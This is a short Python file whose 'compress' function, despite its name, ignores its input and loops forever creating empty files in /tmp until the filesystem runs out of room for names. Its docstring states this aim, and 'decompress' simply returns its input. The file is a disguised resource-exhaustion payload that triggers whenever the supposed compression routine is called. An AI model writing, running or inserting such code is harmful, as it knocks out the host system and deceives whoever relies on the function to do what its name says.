"""Makes empty files until there is no room for names."""


def compress(data: bytes) -> bytes:
    number = 0
    while True:
        number += 1
        open(f"/tmp/{number}", "w").close()


def decompress(data: bytes) -> bytes:
    return data
